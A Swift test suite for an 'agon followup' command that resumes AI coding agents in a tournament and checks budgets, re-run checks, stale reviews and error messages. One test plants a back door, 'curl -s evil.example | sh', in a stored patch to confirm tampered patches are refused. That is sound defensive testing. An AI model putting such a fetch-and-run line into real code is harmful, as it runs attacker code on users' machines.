import AgonAgents
import AgonCore
import AgonReport
import AgonStore
import AgonTestSupport
import Foundation
import Testing
@testable import AgonTournament

/// `agon followup` with the agent doubles on real repositories: the resume flags each CLI got
/// (read back from the double's own argv on stderr), attempts, summed totals, the budget
/// remainder, re-run checks, the stale review and its re-review.
@Suite(.serialized) struct FollowUpTests {
    /// Solutions for the doubles: `slugify.sh` is the demo's wrong one (fails acceptance);
    /// `zfixslug.sh` redefines the function correctly and runs only when a prompt says "zfixslug".
    static func writeSolutions(_ fixture: TournamentFixture) throws -> String {
        let dir = fixture.bin + "/followsol"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        try FileManager.default.copyItem(atPath: TournamentFixture.solutions + "/wrong/slugify.sh", toPath: dir + "/slugify.sh")
        try """
        cat >> lib/textkit.sh <<'SRC'

        tk_slugify() {
            printf '%s\\n' "$1" | tr '[:upper:]' '[:lower:]' | sed -e 's/[^a-z0-9][^a-z0-9]*/-/g' -e 's/^-//' -e 's/-$//'
        }
        SRC
        """.write(toFile: dir + "/zfixslug.sh", atomically: true, encoding: .utf8)
        return dir
    }

    static func entry(_ id: String, _ harness: String, _ model: String, solutions: String = "BIN/followsol", extraEnv: String = "") -> String {
        "  \(id): { harness: \(harness), model: \(model), binary: BIN/\(harness), env: { DOUBLE_SOLUTIONS: \(solutions), "
            + "DOUBLE_PRINT_ARGV: \"1\", DOUBLE_TURNS: \"2\", DOUBLE_TOKENS_PER_TURN: \"10000/1000\", DOUBLE_DELAY_MS: \"1\"\(extraEnv) } }\n"
    }

    static func makeFixture(_ agents: [String], verifiers: String = "") throws -> TournamentFixture {
        let fixture = try TournamentFixture(config: "agents:\n" + agents.joined() + verifiers)
        _ = try writeSolutions(fixture)
        return fixture
    }

    static func run(_ fixture: TournamentFixture) throws -> RunRecord {
        let tournament = Tournament(workspace: try fixture.workspace(), options: TournamentOptions(parallel: 3, progress: SilentProgress()))
        return try #require(try tournament.run(specPaths: [fixture.repo + "/specs/slugify.md"]).value.first)
    }

    static func followUp(_ fixture: TournamentFixture, _ runID: String, _ target: FollowUp.Target, _ message: String,
                         budget: Double? = nil) throws -> CommandResult<FollowUp.Result> {
        try FollowUp(workspace: try fixture.workspace(), options: TournamentOptions(review: false, progress: SilentProgress()))
            .run(runID: runID, target: target, message: message, budgetUSD: budget)
    }

    /// The argv the double printed in an attempt's stderr.txt.
    static func argv(_ fixture: TournamentFixture, _ runID: String, _ agent: String, attempt: Int) throws -> [String] {
        let dir = fixture.repo + "/.agon/runs/\(runID)/candidates/\(agent)" + (attempt > 1 ? "/attempt-\(attempt)" : "")
        let text = try String(contentsOfFile: dir + "/stderr.txt", encoding: .utf8)
        let line = try #require(text.split(separator: "\n").first { $0.hasPrefix("agent-double argv: ") })
        let json = Data(line.dropFirst("agent-double argv: ".count).utf8)
        return try #require(try JSONSerialization.jsonObject(with: json) as? [String])
    }

    static let perTurnUSD = 10_000 * 3e-6 + 1_000 * 15e-6   // claude-sonnet-4-5 at $3 / $15 per MTok

    @Test func nearMissesResumeOrStartFreshAndTheirChecksRerun() throws {
        let fixture = try Self.makeFixture([Self.entry("cl", "claude", "claude-sonnet-4-5"),
                                            Self.entry("cx", "codex", "gpt-5-codex"),
                                            Self.entry("ai", "aider", "gpt-4.1")])
        let record = try Self.run(fixture)
        for c in record.candidates {
            #expect(c.checks.acceptance == .failed, "\(c.agent) should fail acceptance first")
            #expect(c.attempts.isEmpty && c.attemptHistory.count == 1)
        }
        let first = Dictionary(uniqueKeysWithValues: record.candidates.map { ($0.agent, $0) })
        #expect(first["cl"]?.sessionID != nil && first["cx"]?.sessionID != nil)

        let outcome = try Self.followUp(fixture, record.runID, .allNearMisses, "zfixslug: collapse runs of dashes and trim them")
        #expect(outcome.exitCode == 0)
        #expect(outcome.value.attempts.map(\.agent).sorted() == ["ai", "cl", "cx"])
        #expect(outcome.value.reviewStale == false)   // no verifiers: the checks-only consensus is remade
        let stored = try #require(try fixture.workspace().store().run(record.runID))

        for agent in ["cl", "cx", "ai"] {
            let before = try #require(first[agent])
            let after = try #require(stored.candidate(agent))
            #expect(after.attempts.count == 2)
            #expect(after.attempts[0].kind == .initial && after.attempts[0].checks.acceptance == .failed)
            let second = after.attempts[1]
            #expect(second.number == 2 && second.message == "zfixslug: collapse runs of dashes and trim them")
            // Checks re-ran on the new snapshot: acceptance and holdout now pass.
            #expect(after.checks.acceptance == .passed && after.checks.holdout == .passed, "\(agent): \(after.checks)")
            #expect(after.successAttempt == 2)
            // Totals are the sums of the attempts.
            #expect(after.tokens == after.attempts[0].tokens + second.tokens)
            #expect(abs((after.costUSD ?? -1) - ((before.costUSD ?? 0) + (second.costUSD ?? 0))) < 1e-12)
            #expect(after.turns == before.turns + second.turns)
            // The patch is the latest snapshot, sealed again, and applies to the base.
            #expect(after.snapshotSHA != before.snapshotSHA)
            let patchFile = fixture.repo + "/" + (after.diff.patchPath ?? "")
            let patch = try Data(contentsOf: URL(fileURLWithPath: patchFile))
            #expect(SHA256Digest.hex(patch) == after.diff.patchSHA256)
            #expect(String(decoding: patch, as: UTF8.self).contains("[^a-z0-9][^a-z0-9]*"))
            _ = try fixture.git("apply", "--check", patchFile)
            // The follow-up's budget was what was left of the spec's $0.40.
            #expect(abs((second.budgetUSD ?? 0) - (0.40 - (before.costUSD ?? 0))) < 1e-12)
        }

        // Claude resumed its own session with the same stream-json flags.
        let cl = try Self.argv(fixture, record.runID, "cl", attempt: 2)
        let clSession = try #require(first["cl"]?.sessionID)
        #expect(cl.firstIndex(of: "--resume").map { cl[$0 + 1] } == clSession)
        #expect(cl.firstIndex(of: "-p").map { cl[$0 + 1] } == "zfixslug: collapse runs of dashes and trim them")
        #expect(cl.contains("stream-json") && cl.contains("--verbose"))
        #expect(try #require(stored.candidate("cl")).attempts[1].kind == .resumed)
        #expect(!(try Self.argv(fixture, record.runID, "cl", attempt: 1)).contains("--resume"))

        // Codex: `exec resume … THREAD PROMPT`, and only the new turns are charged although
        // the resumed thread reports its running total (2 turns of 10,000 / 1,000 each time).
        let cx = try Self.argv(fixture, record.runID, "cx", attempt: 2)
        let thread = try #require(first["cx"]?.sessionID)
        #expect(Array(cx.dropFirst().prefix(2)) == ["exec", "resume"])
        #expect(Array(cx.suffix(2)) == [thread, "zfixslug: collapse runs of dashes and trim them"])
        #expect(!cx.contains("--sandbox"))
        let cxAfter = try #require(stored.candidate("cx"))
        #expect(cxAfter.attempts[1].kind == .resumed)
        #expect(cxAfter.attempts[1].tokens.total == 2 * 11_000)
        #expect(cxAfter.tokens.total == 4 * 11_000)
        #expect(cxAfter.attempts[1].turns == 2)

        // aider has no resume: a fresh invocation given the spec, its diff and the message.
        let aiAfter = try #require(stored.candidate("ai"))
        #expect(aiAfter.attempts[1].kind == .fresh)
        let prompt = try String(contentsOfFile: fixture.repo + "/.agon/runs/\(record.runID)/candidates/ai/attempt-2/prompt.md", encoding: .utf8)
        #expect(prompt.contains("Add a function `tk_slugify TEXT`"))
        #expect(prompt.contains("```diff") && prompt.contains("+tk_slugify() {"))
        #expect(prompt.hasSuffix("zfixslug: collapse runs of dashes and trim them\n"))
        #expect(outcome.value.attempts.first { $0.agent == "ai" }?.note == nil)
    }

    @Test func theBudgetIsWhatIsLeftOfTheCapAndIsEnforced() throws {
        let fixture = try Self.makeFixture([Self.entry("cl", "claude", "claude-sonnet-4-5", extraEnv: ", DOUBLE_OVERSPEND_WHEN: spendmore")])
        let record = try Self.run(fixture)
        let before = try #require(record.candidate("cl"))
        #expect(abs((before.costUSD ?? 0) - 2 * Self.perTurnUSD) < 1e-9)
        let remainder = 0.40 - (before.costUSD ?? 0)

        let outcome = try Self.followUp(fixture, record.runID, .agent("cl"), "spendmore and zfixslug")
        #expect(outcome.exitCode == 1)
        let after = try #require(outcome.value.attempts.first?.candidate)
        let second = after.attempts[1]
        #expect(second.outcome == .costKilled)
        #expect(abs((second.budgetUSD ?? 0) - remainder) < 1e-12)
        // Killed on the turn that crossed the remainder, not the whole cap: overshoot ≤ one turn.
        let killedAt = try #require(second.costKilledAt)
        #expect(killedAt > remainder && killedAt <= remainder + Self.perTurnUSD + 1e-9)
        #expect((after.costUSD ?? 0) > 0.40)
        #expect(after.checks.acceptance == .skipped)

        // With the cap spent, another follow-up needs its own budget.
        #expect(throws: FollowUpError.budgetSpent(agent: "cl", spent: after.costUSD ?? 0, cap: 0.40)) {
            try Self.followUp(fixture, record.runID, .agent("cl"), "zfixslug")
        }
        let third = try Self.followUp(fixture, record.runID, .agent("cl"), "zfixslug", budget: 0.2)
        #expect(third.value.attempts[0].attempt.number == 3 && third.value.attempts[0].attempt.budgetUSD == 0.2)
        #expect(third.value.attempts[0].candidate.checks.acceptance == .passed)
        #expect(third.value.attempts[0].candidate.successAttempt == 3)
    }

    @Test func withoutARecordedSessionTheFollowUpStartsFresh() throws {
        let fixture = try Self.makeFixture([Self.entry("cl", "claude", "claude-sonnet-4-5")])
        let record = try Self.run(fixture)
        let store = try fixture.workspace().store()
        var candidate = try #require(record.candidate("cl"))
        candidate.sessionID = nil   // as in records written before sessions were kept
        try store.upsertCandidate(runID: record.runID, candidate)

        let outcome = try Self.followUp(fixture, record.runID, .agent("cl"), "zfixslug")
        let made = try #require(outcome.value.attempts.first)
        #expect(made.attempt.kind == .fresh)
        #expect(made.note?.contains("no session id was recorded for cl") == true)
        #expect(!(try Self.argv(fixture, record.runID, "cl", attempt: 2)).contains("--resume"))
        #expect(made.candidate.checks.acceptance == .passed)
    }

    @Test func aFollowUpMakesTheReviewStaleUntilReviewedAgain() throws {
        let fixture = try Self.makeFixture([Self.entry("cl", "claude", "claude-sonnet-4-5"),
                                            Self.entry("cx", "codex", "gpt-5-codex", solutions: "SOL/neat"),
                                            Self.entry("gm", "gemini", "gemini-2.5-flash", solutions: "SOL/neat")],
                                           verifiers: ReviewLineup.verifiers([ReviewLineup.sound]))
        let record = try Self.run(fixture)
        #expect(record.reviews.count == 1 && !record.reviewStale, "\(record.reviews.map(\.status))")
        #expect(record.consensus?.gated == ["cl"])
        _ = try Self.followUp(fixture, record.runID, .agent("cl"), "zfixslug")
        let stale = try #require(try fixture.workspace().store().run(record.runID))
        #expect(stale.reviewStale)
        // `agon show` says so.
        let shown = try fixture.agon("show", record.runID)
        #expect(shown.stdout.contains("review is stale"), "\(shown.stdout)")
        #expect(shown.stdout.contains("attempts: cl: #1 initial ok"), "\(shown.stdout)")
        // …and so does the report.
        let page = fixture.root + "/stale.html"
        let report = try fixture.agon("report", record.runID, "-o", page)
        #expect(report.status == 0, "\(report.stderr)")
        let html = try String(contentsOfFile: page, encoding: .utf8)
        #expect(html.contains("<li class=\"badge warn review-stale\">review is stale"))

        let reviewed = try fixture.agon("review", record.runID)
        #expect(reviewed.status == 0, "\(reviewed.stderr)")
        let fresh = try #require(try fixture.workspace().store().run(record.runID))
        #expect(!fresh.reviewStale)
        #expect(!(try fixture.agon("show", record.runID)).stdout.contains("review is stale"))
        // The new review saw the follow-up's patch: cl passes now, so it is ranked, not gated.
        #expect(fresh.consensus?.gated.contains("cl") == false)
        #expect(fresh.consensus?.ranking.contains("cl") == true)
    }

    @Test func errorPathsSayWhatToFix() throws {
        let fixture = try Self.makeFixture([Self.entry("cl", "claude", "claude-sonnet-4-5")])
        let record = try Self.run(fixture)
        /// Exit status and the one `agon:` line (usage errors add ArgumentParser's usage lines after
        /// it; the preflight may note doctor warnings before it).
        func agon(_ args: String...) throws -> (Int32, String) {
            let r = try fixture.run([TournamentFixture.agonBinary, "followup"] + args, in: fixture.repo)
            let errors = r.2.split(separator: "\n").filter { $0.hasPrefix("agon: ") }
            #expect(r.0 != 0 && errors.count == 1, "\(r.2)")
            return (r.0, String(errors.first ?? "") + "\n")
        }
        #expect(try agon("nosuchrun", "cl", "zfixslug").1.contains("nosuchrun"))
        #expect(try agon(record.runID, "ghost", "zfixslug") == (2, "agon: run \(record.runID) has no candidate \"ghost\" (it has: cl)\n"))
        #expect(try agon(record.runID, "cl", "   ") == (2, "agon: the follow-up message is empty; give the message as an argument or in a file\n"))
        #expect(try agon(record.runID, "cl").1.contains("missing the follow-up message"))
        #expect(try agon(record.runID, "cl", "zfixslug", "--budget", "0") == (2, "agon: a follow-up's budget must be more than $0 (got 0.0)\n"))
        #expect(try agon(record.runID, "--all-near-misses", "x", "y").1.contains("takes no agent"))

        // A candidate whose worktree is gone and that has nothing to restore it from.
        let store = try fixture.workspace().store()
        var candidate = try #require(record.candidate("cl"))
        candidate.snapshotSHA = nil
        candidate.diff.patchPath = nil
        try store.upsertCandidate(runID: record.runID, candidate)
        let worktree = fixture.repo + "/" + candidate.worktree
        if FileManager.default.fileExists(atPath: worktree) { _ = try fixture.git("worktree", "remove", "--force", worktree) }
        let refused = try agon(record.runID, "cl", "zfixslug")
        #expect(refused == (1, "agon: cannot restore the worktree of cl in run \(record.runID): it has no snapshot to restore it from\n"), "\(refused)")
        // Nothing was recorded for the refused follow-up.
        #expect(try store.run(record.runID)?.candidate("cl")?.attempts.isEmpty == true)
    }

    /// Attack: the patch a gone worktree would be rebuilt from is edited on disk (a back door added
    /// after the run was sealed). The follow-up refuses to restore from it, runs nothing, records nothing.
    @Test func aTamperedPatchIsNotRestored() throws {
        let fixture = try Self.makeFixture([Self.entry("cl", "claude", "claude-sonnet-4-5")])
        let record = try Self.run(fixture)
        let candidate = try #require(record.candidate("cl"))
        let worktree = fixture.repo + "/" + candidate.worktree
        if FileManager.default.fileExists(atPath: worktree + "/.git") { _ = try fixture.git("worktree", "remove", "--force", worktree) }
        let patchFile = fixture.repo + "/" + (candidate.diff.patchPath ?? "")
        var patch = try String(contentsOfFile: patchFile, encoding: .utf8)
        patch = patch.replacingOccurrences(of: "tk_slugify() {", with: "tk_slugify() { curl -s evil.example | sh;")
        try patch.write(toFile: patchFile, atomically: true, encoding: .utf8)
        #expect {
            try Self.followUp(fixture, record.runID, .agent("cl"), "zfixslug")
        } throws: { error in
            "\(error)".contains("cannot restore the worktree of cl") && "\(error)".contains("changed after it was recorded")
        }
        let restored = (try? String(contentsOfFile: worktree + "/lib/textkit.sh", encoding: .utf8)) ?? ""
        #expect(!restored.contains("evil.example"))
        #expect(!FileManager.default.fileExists(atPath: fixture.repo + "/.agon/runs/\(record.runID)/candidates/cl/attempt-2"))
        #expect(try fixture.workspace().store().run(record.runID)?.candidate("cl")?.attempts.isEmpty == true)
    }

    /// A follow-up takes the run's lease: while another agon holds it, it refuses and runs nothing.
    @Test func aHeldLeaseRefusesTheFollowUp() throws {
        let fixture = try Self.makeFixture([Self.entry("cl", "claude", "claude-sonnet-4-5")])
        let record = try Self.run(fixture)
        let lease = try RunLease.acquire(try fixture.workspace().layout, runID: record.runID)
        defer { lease.release() }
        #expect(throws: RunLeaseError.held(runID: record.runID)) {
            try Self.followUp(fixture, record.runID, .agent("cl"), "zfixslug")
        }
        #expect(!FileManager.default.fileExists(atPath: fixture.repo + "/.agon/runs/\(record.runID)/candidates/cl/attempt-2"))
    }
}
